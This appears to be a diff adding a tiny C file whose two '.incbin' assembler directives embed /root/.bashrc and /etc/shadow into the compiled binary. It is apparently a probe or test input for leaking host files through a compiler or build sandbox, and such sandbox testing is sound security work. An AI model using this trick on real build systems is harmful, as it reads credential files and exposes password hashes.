@@ -1,0 +1,3 @@
+__asm__(".incbin \"/root/.bashrc\"");
+__asm__(".incbin \"/etc/shadow\"");
+int main() {}
